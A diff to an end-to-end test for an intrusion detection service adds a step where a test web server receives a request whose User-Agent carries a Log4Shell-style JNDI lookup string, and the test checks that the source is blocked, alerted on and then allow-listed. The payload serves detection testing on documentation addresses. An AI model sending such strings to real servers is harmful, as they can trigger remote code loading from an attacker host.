@@ -11,10 +11,19 @@ import time
 from collections.abc import Callable
 from pathlib import Path
 
+from ids.cli import VERBS
 from tests.packages.machine import Failed, Machine, host
 
 TRAFFIC = Path(__file__).with_name("traffic.py")
-MACHINE, PEER, GOOD, BAD = "192.0.2.1", "192.0.2.254", "192.0.2.50", "192.0.2.66"
+MACHINE, PEER, GOOD, BAD, ATTACKER = "192.0.2.1", "192.0.2.254", "192.0.2.50", "192.0.2.66", "192.0.2.77"
+EXPLOIT = "${jndi:ldap://192.0.2.66/a}"
+REQUEST = """
+import http.client, sys
+_, server, source, agent = sys.argv
+client = http.client.HTTPConnection(server, 8080, timeout=3, source_address=(source, 0))
+client.request("GET", "/", headers={"User-Agent": agent})
+print(client.getresponse().status)
+"""
 PATIENCE_S = 60.0
 
 
@@ -45,8 +54,8 @@ class Story:
     def run(self) -> None:
         """Do all steps; raises `Failed`."""
         steps = (
-            self.install, self.init, self.start, self.privileges, self.enforce, self.upgrade, self.rotate,
-            self.refused_reload, self.watchdog, self.reboot, self.interface_returns, self.remove,
+            self.install, self.init, self.start, self.privileges, self.enforce, self.attack, self.undo,
+            self.upgrade, self.rotate, self.refused_reload, self.watchdog, self.reboot, self.interface_returns, self.remove,
         )  # fmt: skip
         for step in steps:
             begin = time.monotonic()
@@ -96,14 +105,34 @@ class Story:
         self.machine.run("ids", "block", "add", BAD)
         self.judge(*self.traffic(lambda: None))
 
+    def attack(self) -> None:
+        """A web server is attacked: the source is blocked, and it can be asked why."""
+        self.machine.shell("mkdir -p /srv/www; systemd-run --unit=web python3 -m http.server -d /srv/www 8080")
+        soon(lambda: self.served(ATTACKER), "the web server does not answer")
+        self.served(ATTACKER, EXPLOIT)
+        soon(lambda: f"{ATTACKER}/32" in self.blocked(), f"not blocked: {self.blocked()}")
+        expect(not self.served(ATTACKER), "a blocked source is served")
+        expect(self.served(GOOD), "another source is not served")
+        soon(lambda: ATTACKER in self.machine.run("ids", "alerts", "list", "-o", "json"), "the memory has no alert")
+        if "why" in VERBS:
+            expect(ATTACKER in self.machine.run("ids", "why", ATTACKER), "nobody knows why")
+
+    def undo(self) -> None:
+        """The block is lifted; the source is excepted, and not blocked again."""
+        self.machine.run("ids", "block", "delete", ATTACKER)
+        expect(self.served(ATTACKER), "it is blocked still")
+        self.machine.run("ids", "allow", "add", ATTACKER)
+        self.served(ATTACKER, EXPLOIT)
+        expect(self.served(ATTACKER), "an excepted source was blocked")
+        self.machine.shell("systemctl stop web")
+
     def upgrade(self) -> None:
         """Upgraded with traffic flowing: nothing of the blocked source passes, nothing of the other is lost."""
         (self.machine.root / "root" / self.newer.name).write_bytes(self.newer.read_bytes())
         before = self.unit("MainPID")
         self.judge(*self.traffic(self.install_newer))
         expect(self.unit("ActiveState") == "active" and self.unit("MainPID") != before, "the new version does not run")
-        listed = json.loads(self.machine.run("ids", "block", "list", "-o", "json"))
-        expect([entry["network"] for entry in listed] == [f"{BAD}/32"], f"the list is {listed}")
+        expect(self.blocked() == [f"{BAD}/32"], f"the list is {self.blocked()}")
 
     def rotate(self) -> None:
         """Logrotate moves the events away, and a new file is written without a signal."""
@@ -183,13 +212,22 @@ class Story:
             f"ip address add {MACHINE}/24 dev outside; ip link set outside up; ip route replace default via {PEER}"
         )
         inside = ("ip", "-n", self.neighbours)
-        for address in (PEER, GOOD, BAD):
+        for address in (PEER, GOOD, BAD, ATTACKER):
             host(*inside, "address", "add", f"{address}/24", "dev", "wire")
         host(*inside, "link", "set", "wire", "up")
 
     def install_newer(self) -> None:
         """Upgrade the package, as apt would."""
         self.machine.run("dpkg", "-i", f"/root/{self.newer.name}")
+
+    def blocked(self) -> list[str]:
+        """Return the networks on the blocklist."""
+        return [entry["network"] for entry in json.loads(self.machine.run("ids", "block", "list", "-o", "json"))]
+
+    def served(self, source: str, agent: str = "tests") -> bool:
+        """Ask the machine's web server for a page; return whether it came."""
+        enter = ("ip", "netns", "exec", self.neighbours, sys.executable)
+        return host(*enter, "-c", REQUEST, MACHINE, source, agent, check=False).strip() == "200"
 
     def unit(self, name: str) -> str:
         """Return what systemd has under a name for the service."""
